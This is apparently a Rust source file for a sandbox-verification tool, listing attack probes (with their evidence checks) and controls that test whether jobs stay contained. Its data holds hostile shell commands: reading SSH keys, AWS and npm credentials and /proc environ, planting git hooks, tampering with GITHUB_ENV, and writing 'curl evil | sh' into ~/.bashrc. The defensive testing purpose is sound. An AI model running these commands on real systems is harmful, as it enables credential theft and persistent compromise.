//! The probe catalogue, as data: what each probe makes the job try inside
//! the sandbox, and what evidence outside the sandbox decides the result.
//!
//! Scripts and arguments name the world through placeholders (`{HOME}`,
//! `{P}`, `{PROBE}`, …) that [`super::world::World::expand`] fills in; the
//! job never sees a canary value in its own command line, so a canary in its
//! output can only have come through the attack.

use serde::Serialize;

/// Is the probe an attack that must fail, or a control that must work?
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    Attack,
    Control,
}

/// What the job runs inside the sandbox.
#[derive(Debug, Clone, Copy)]
pub enum Job {
    /// `sh -c SCRIPT`; the script's first line prints a marker so that a job
    /// that never ran cannot pass for a contained one.
    Sh(&'static str),
    /// `vetto __probe ARGS…`: one attempt of one syscall, one JSON line.
    Probe(&'static [&'static str]),
    /// `vetto __verify-probe ARGS…` (actions only `verify` needs).
    Extra(&'static [&'static str]),
}

/// A secret planted in the world; its value is random per run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Canary {
    /// In `~/.ssh/id_rsa`.
    SshKey,
    /// In `~/.aws/credentials`.
    AwsFile,
    /// The `_authToken` in `~/.npmrc`.
    NpmToken,
    /// In `P/.env`.
    DotEnv,
    /// The value of `GITHUB_TOKEN` in vetto's environment.
    GithubToken,
    /// The value of `AWS_SECRET_ACCESS_KEY` in vetto's environment.
    AwsEnv,
    /// In the environment of a host process outside the sandbox.
    HostEnv,
}

/// A file whose bytes (or absence) must be the same after the job.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Target {
    HomeBashrc,
    /// A file in a directory outside the project and the home.
    OutsidePlanted,
    PreCommitHook,
    GitConfig,
    GithubEnv,
    GithubPath,
    /// A file in the host's `/dev/shm` (shared memory outlives processes).
    DevShmDrop,
}

/// A host listener that must receive nothing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Listener {
    Tcp,
    Udp,
    SshAgent,
    Abstract,
}

/// What decides the result, observed outside the sandbox.
#[derive(Debug, Clone, Copy)]
pub enum Evidence {
    /// None of these canaries appears in the job's output.
    CanaryAbsent(&'static [Canary]),
    /// These files are byte-for-byte unchanged (or still absent).
    Unchanged(&'static [Target]),
    /// `P/.git`, its hooks and its config are the same directories and bytes.
    GitIntact,
    /// The listener accepted no connection / received no datagram.
    Silent(Listener),
    /// The host process the job signalled is still running, not stopped.
    VictimAlive,
    /// No process the job started outlives the session.
    NoDaemonLeft,
    /// The host process's unique command line does not appear in the output.
    HostProcessHidden,
    /// The setuid binary the job started ran with the caller's uid.
    SetuidNoGain,
    /// Nothing outside can observe the attempt, so the kernel's answer to
    /// the probe decides; the same probe must succeed unsandboxed, or the
    /// result is "not applicable".
    KernelAnswer,
    /// A control: the job exits 0, its output holds `stdout` and each file
    /// holds its content afterwards.
    Works {
        stdout: &'static str,
        files: &'static [(&'static str, &'static str)],
    },
}

/// When a probe is meaningful.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Applies {
    Always,
    /// Only at FULL (the reason it is not applicable below).
    FullOnly(&'static str),
    /// x86_64 hosts (x32 and i386 syscall ABIs).
    X86_64,
    /// `git` is installed.
    Git,
    /// A setuid-root binary exists and vetto does not run as root.
    Setuid,
    /// A private loopback exists: FULL, or any tier with `--net host`.
    Loopback,
    /// The host has a `/dev/shm`.
    DevShm,
}

/// One probe.
#[derive(Debug, Clone, Copy)]
pub struct Spec {
    /// Stable kebab-case id (part of the `--json` document).
    pub id: &'static str,
    pub kind: Kind,
    /// What the job tries, in words.
    pub technique: &'static str,
    pub job: Job,
    pub evidence: Evidence,
    pub applies: Applies,
}

/// Every probe, in the order they are shown.
pub const CATALOGUE: &[Spec] = &[
    // ── secrets on disk ──
    Spec {
        id: "read-ssh-key",
        kind: Kind::Attack,
        technique: "cat ~/.ssh/id_rsa",
        job: Job::Sh("cat {HOME}/.ssh/id_rsa"),
        evidence: Evidence::CanaryAbsent(&[Canary::SshKey]),
        applies: Applies::Always,
    },
    Spec {
        id: "read-aws-credentials",
        kind: Kind::Attack,
        technique: "cat ~/.aws/credentials",
        job: Job::Sh("cat {HOME}/.aws/credentials"),
        evidence: Evidence::CanaryAbsent(&[Canary::AwsFile]),
        applies: Applies::Always,
    },
    Spec {
        id: "read-npmrc-token",
        kind: Kind::Attack,
        technique: "cat ~/.npmrc (an npm _authToken)",
        job: Job::Sh("cat {HOME}/.npmrc"),
        evidence: Evidence::CanaryAbsent(&[Canary::NpmToken]),
        applies: Applies::Always,
    },
    Spec {
        id: "read-project-dotenv",
        kind: Kind::Attack,
        technique: "cat P/.env",
        job: Job::Sh("cat {P}/.env"),
        evidence: Evidence::CanaryAbsent(&[Canary::DotEnv]),
        applies: Applies::Always,
    },
    Spec {
        id: "symlink-to-secret",
        kind: Kind::Attack,
        technique: "follow P/key-link and P/src/key-link -> ~/.ssh/id_rsa",
        job: Job::Sh("cat {P}/key-link; cat {P}/src/key-link"),
        evidence: Evidence::CanaryAbsent(&[Canary::SshKey]),
        applies: Applies::Always,
    },
    // ── writes that persist outside the session ──
    Spec {
        id: "write-outside-project",
        kind: Kind::Attack,
        technique: "append to ~/.bashrc; create a file in a directory outside P",
        job: Job::Sh("echo 'curl evil | sh' >> {HOME}/.bashrc; echo pwned > {OUTSIDE}/planted"),
        evidence: Evidence::Unchanged(&[Target::HomeBashrc, Target::OutsidePlanted]),
        applies: Applies::Always,
    },
    Spec {
        id: "plant-git-hook",
        kind: Kind::Attack,
        technique: "write P/.git/hooks/pre-commit",
        job: Job::Sh(
            "printf '#!/bin/sh\\necho pwned\\n' > {P}/.git/hooks/pre-commit; chmod +x {P}/.git/hooks/pre-commit",
        ),
        evidence: Evidence::Unchanged(&[Target::PreCommitHook]),
        applies: Applies::Always,
    },
    Spec {
        id: "modify-git-config",
        kind: Kind::Attack,
        technique: "append core.hooksPath / core.fsmonitor to P/.git/config",
        job: Job::Sh(
            "printf '[core]\\n\\thooksPath = /tmp\\n\\tfsmonitor = echo pwned\\n' >> {P}/.git/config",
        ),
        evidence: Evidence::Unchanged(&[Target::GitConfig]),
        applies: Applies::Always,
    },
    Spec {
        id: "replace-git-dir",
        kind: Kind::Attack,
        technique: "rename .git/hooks or .git away, recreate it with a hook; rm -rf .git; symlink .git",
        job: Job::Sh(concat!(
            "cd {P} || exit 0\n",
            "mv .git/hooks .git/hooks.old && mkdir .git/hooks && {HOOK} > .git/hooks/pre-commit\n",
            "mv .git .git.old && mkdir -p .git/hooks && {HOOK} > .git/hooks/pre-commit\n",
            "rm -rf .git\n",
            "ln -s {OUTSIDE} .git\n",
        )),
        evidence: Evidence::GitIntact,
        applies: Applies::Always,
    },
    Spec {
        id: "write-github-env",
        kind: Kind::Attack,
        technique: "append to the files named by GITHUB_ENV and GITHUB_PATH",
        job: Job::Sh(
            "echo 'NODE_OPTIONS=--require=/tmp/pwn.js' >> {GITHUB_ENV}; echo /tmp/pwn >> {GITHUB_PATH}",
        ),
        evidence: Evidence::Unchanged(&[Target::GithubEnv, Target::GithubPath]),
        applies: Applies::Always,
    },
    Spec {
        id: "dev-shm-drop",
        kind: Kind::Attack,
        technique: "leave a file in /dev/shm for a later, unsandboxed process",
        job: Job::Sh("echo 'curl evil | sh' > {SHMFILE}"),
        evidence: Evidence::Unchanged(&[Target::DevShmDrop]),
        applies: Applies::DevShm,
    },
    // ── credentials in environments ──
    Spec {
        id: "env-token",
        kind: Kind::Attack,
        technique: "print the job's environment (GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY set for vetto)",
        job: Job::Sh("env"),
        evidence: Evidence::CanaryAbsent(&[Canary::GithubToken, Canary::AwsEnv]),
        applies: Applies::Always,
    },
    Spec {
        id: "host-process-environ",
        kind: Kind::Attack,
        technique: "cat /proc/PID/environ of a host process holding a secret",
        job: Job::Sh("cat /proc/{HOSTPID}/environ"),
        evidence: Evidence::CanaryAbsent(&[Canary::HostEnv]),
        applies: Applies::Always,
    },
    Spec {
        id: "vetto-process-environ",
        kind: Kind::Attack,
        technique: "cat /proc/*/environ (vetto's own supervisor holds GITHUB_TOKEN)",
        job: Job::Sh("for f in /proc/[0-9]*/environ; do cat \"$f\"; echo; done"),
        evidence: Evidence::CanaryAbsent(&[Canary::GithubToken, Canary::AwsEnv]),
        applies: Applies::Always,
    },
    // ── other processes ──
    Spec {
        id: "signal-host-process",
        kind: Kind::Attack,
        technique: "kill(PID, SIGTERM) of a host process of the same user",
        job: Job::Probe(&["signal", "{VICTIMPID}", "TERM"]),
        evidence: Evidence::VictimAlive,
        applies: Applies::Always,
    },
    Spec {
        id: "ptrace-host-process",
        kind: Kind::Attack,
        technique: "ptrace(PTRACE_SEIZE) a host process of the same user",
        job: Job::Probe(&["ptrace-attach", "{HOSTPID}"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::Always,
    },
    Spec {
        id: "read-host-memory",
        kind: Kind::Attack,
        technique: "process_vm_readv of a host process's environment block (ptrace access)",
        job: Job::Extra(&["read-memory", "{HOSTPID}", "{HOSTENVADDR}", "{HOSTENVLEN}"]),
        evidence: Evidence::CanaryAbsent(&[Canary::HostEnv]),
        applies: Applies::Always,
    },
    Spec {
        id: "host-processes-visible",
        kind: Kind::Attack,
        technique: "list /proc/*/cmdline looking for a host process",
        job: Job::Sh("for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < \"$f\"; echo; done"),
        evidence: Evidence::HostProcessHidden,
        applies: Applies::FullOnly(
            "no PID namespace below FULL: host processes are listed, but signals, ptrace and /proc/PID/environ are scoped (probes above)",
        ),
    },
    Spec {
        id: "daemon-survives",
        kind: Kind::Attack,
        technique: "leave a setsid/double-forked daemon behind",
        job: Job::Sh(concat!(
            "if command -v setsid >/dev/null 2>&1; then (setsid sleep {DAEMON} </dev/null >/dev/null 2>&1 &); ",
            "else (sleep {DAEMON} </dev/null >/dev/null 2>&1 &); fi\n",
            // Say that the daemon runs, so a daemon that never started
            // cannot pass for one that was killed.
            "n=0; while [ $n -lt 30 ]; do\n",
            "  for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < \"$f\"; echo; done | grep -q '^sleep {DAEMON} *$' && { echo DAEMON-RUNNING; break; }\n",
            "  sleep 0.1; n=$((n+1))\n",
            "done",
        )),
        evidence: Evidence::NoDaemonLeft,
        applies: Applies::Always,
    },
    Spec {
        id: "setuid-gains-nothing",
        kind: Kind::Attack,
        technique: "run a setuid-root binary and read its effective uid",
        job: Job::Sh(concat!(
            "(sleep 3 2>/dev/null) | {SETUID} >/dev/null 2>&1 & pid=$!\n",
            // Wait until the process IS the setuid program (exec done), so
            // the shell's fork is never mistaken for it.
            "n=0; while [ $n -lt 30 ]; do grep -q '^Name:[[:space:]]*{SETUIDNAME}$' /proc/$pid/status 2>/dev/null && break; sleep 0.1; n=$((n+1)); done\n",
            "grep -E '^(Name|Uid):' /proc/$pid/status; kill $pid 2>/dev/null",
        )),
        evidence: Evidence::SetuidNoGain,
        applies: Applies::Setuid,
    },
    // ── network and sockets ──
    Spec {
        id: "tcp-connect-host",
        kind: Kind::Attack,
        technique: "TCP connect to a host listener on 127.0.0.1",
        job: Job::Probe(&["connect-tcp", "127.0.0.1:{TCPPORT}"]),
        evidence: Evidence::Silent(Listener::Tcp),
        applies: Applies::Always,
    },
    Spec {
        id: "udp-send-host",
        kind: Kind::Attack,
        technique: "UDP datagram to a host socket on 127.0.0.1",
        job: Job::Probe(&["udp-send", "127.0.0.1:{UDPPORT}"]),
        evidence: Evidence::Silent(Listener::Udp),
        applies: Applies::Always,
    },
    Spec {
        id: "ssh-agent-socket",
        kind: Kind::Attack,
        technique: "connect to $SSH_AUTH_SOCK (a pathname socket outside P, passed with --env-pass)",
        job: Job::Sh("\"{PROBE}\" __probe connect-unix \"${SSH_AUTH_SOCK:-{AGENT}}\""),
        evidence: Evidence::Silent(Listener::SshAgent),
        applies: Applies::Always,
    },
    Spec {
        id: "abstract-socket-host",
        kind: Kind::Attack,
        technique: "connect to a host abstract unix socket (@name)",
        job: Job::Probe(&["abstract-connect", "{ABSTRACT}"]),
        evidence: Evidence::Silent(Listener::Abstract),
        applies: Applies::Always,
    },
    // ── syscalls with no observable side effect ──
    Spec {
        id: "io-uring",
        kind: Kind::Attack,
        technique: "io_uring_setup (its submissions bypass seccomp)",
        job: Job::Probe(&["io-uring"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::Always,
    },
    Spec {
        id: "user-namespace",
        kind: Kind::Attack,
        technique: "unshare(CLONE_NEWUSER), as `unshare -Ur` does",
        job: Job::Probe(&["unshare-user"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::Always,
    },
    Spec {
        id: "mount",
        kind: Kind::Attack,
        technique: "mount(tmpfs) on a path that does not exist (ENOENT when it reaches the kernel)",
        job: Job::Probe(&["mount-tmpfs"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::Always,
    },
    Spec {
        id: "bpf",
        kind: Kind::Attack,
        technique: "bpf(BPF_OBJ_GET_INFO_BY_FD, -1) (EBADF when it reaches the kernel)",
        job: Job::Probe(&["bpf"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::Always,
    },
    Spec {
        id: "perf-event-open",
        kind: Kind::Attack,
        technique: "perf_event_open(NULL) (EFAULT when it reaches the kernel)",
        job: Job::Probe(&["perf-event-open"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::Always,
    },
    Spec {
        id: "keyctl",
        kind: Kind::Attack,
        technique: "keyctl(KEYCTL_GET_KEYRING_ID) on the session keyring",
        job: Job::Probe(&["keyctl"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::Always,
    },
    Spec {
        id: "x32-syscall",
        kind: Kind::Attack,
        technique: "socket(AF_INET) through the x32 syscall numbers",
        job: Job::Probe(&["x32-syscall"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::X86_64,
    },
    Spec {
        id: "i386-syscall",
        kind: Kind::Attack,
        technique: "socket(AF_INET) through int 0x80 (the i386 ABI)",
        job: Job::Probe(&["i386-syscall"]),
        evidence: Evidence::KernelAnswer,
        applies: Applies::X86_64,
    },
    // ── controls: the sandbox is not simply broken ──
    Spec {
        id: "control-project-write",
        kind: Kind::Control,
        technique: "write a file in P/src and read it back",
        job: Job::Sh("echo {NONCE} > {P}/src/verify-note.txt && cat {P}/src/verify-note.txt"),
        evidence: Evidence::Works {
            stdout: "{NONCE}",
            files: &[("{P}/src/verify-note.txt", "{NONCE}\n")],
        },
        applies: Applies::Always,
    },
    Spec {
        id: "control-top-level-create",
        kind: Kind::Control,
        technique: "create a new directory and a file at the top of P, write into them, read them back (as target/, Cargo.lock)",
        job: Job::Sh(
            "mkdir {P}/verify-dir && echo {NONCE} > {P}/verify-dir/f && echo {NONCE} > {P}/verify-file && cat {P}/verify-file {P}/verify-dir/f",
        ),
        evidence: Evidence::Works {
            stdout: "{NONCE}\n{NONCE}",
            files: &[
                ("{P}/verify-file", "{NONCE}\n"),
                ("{P}/verify-dir/f", "{NONCE}\n"),
            ],
        },
        applies: Applies::Always,
    },
    Spec {
        id: "control-git-status",
        kind: Kind::Control,
        technique: "git status, add and commit a new file, git log in P",
        job: Job::Sh(concat!(
            "cd {P} && git status --porcelain && echo {NONCE} > added.txt && git add added.txt && ",
            "git -c user.name=vetto -c user.email=verify@vetto.invalid commit -q -m 'commit {NONCE}' && ",
            "git log --format=%s | tr '\\n' ' '",
        )),
        evidence: Evidence::Works {
            stdout: "commit {NONCE} vetto verify world",
            files: &[("{P}/added.txt", "{NONCE}\n")],
        },
        applies: Applies::Git,
    },
    Spec {
        id: "control-loopback-server",
        kind: Kind::Control,
        technique: "serve and connect on 127.0.0.1 inside the sandbox",
        job: Job::Extra(&["loopback", "{NONCE}"]),
        evidence: Evidence::Works {
            stdout: "loopback-echo {NONCE}",
            files: &[],
        },
        applies: Applies::Loopback,
    },
];

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn ids_are_unique_and_kebab_case() {
        let mut seen = HashSet::new();
        for s in CATALOGUE {
            assert!(seen.insert(s.id), "duplicate probe id {}", s.id);
            assert!(
                s.id.chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
                "{} is not kebab-case",
                s.id
            );
        }
    }

    /// Probe ids are part of the `--json` document: a rename or removal
    /// must be a reviewed snapshot diff (and a schema bump).
    #[test]
    fn probe_ids_snapshot() {
        let list: Vec<String> = CATALOGUE
            .iter()
            .map(|s| format!("{:?} {}", s.kind, s.id))
            .collect();
        insta::assert_snapshot!(list.join("\n"));
    }

    #[test]
    fn controls_and_attacks_have_matching_evidence() {
        for s in CATALOGUE {
            let is_works = matches!(s.evidence, Evidence::Works { .. });
            assert_eq!(is_works, s.kind == Kind::Control, "{}", s.id);
        }
    }

    #[test]
    fn the_issue_s_techniques_are_all_probed() {
        let ids: HashSet<_> = CATALOGUE.iter().map(|s| s.id).collect();
        for id in [
            "read-ssh-key",
            "read-aws-credentials",
            "read-npmrc-token",
            "read-project-dotenv",
            "symlink-to-secret",
            "write-outside-project",
            "plant-git-hook",
            "modify-git-config",
            "replace-git-dir",
            "write-github-env",
            "dev-shm-drop",
            "env-token",
            "host-process-environ",
            "vetto-process-environ",
            "tcp-connect-host",
            "udp-send-host",
            "ssh-agent-socket",
            "abstract-socket-host",
            "signal-host-process",
            "ptrace-host-process",
            "read-host-memory",
            "io-uring",
            "user-namespace",
            "x32-syscall",
            "daemon-survives",
            "host-processes-visible",
            "setuid-gains-nothing",
            "control-loopback-server",
        ] {
            assert!(ids.contains(id), "missing probe {id}");
        }
    }
}
